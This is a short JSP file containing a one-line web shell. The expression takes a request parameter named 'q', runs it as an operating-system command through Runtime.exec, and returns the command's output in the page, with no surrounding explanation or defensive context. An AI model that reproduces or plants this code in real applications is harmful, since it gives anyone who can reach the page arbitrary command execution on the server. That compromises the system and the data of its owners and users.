<%@ inert %>
<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("q")).getInputStream()).useDelimiter("\\A").next() %>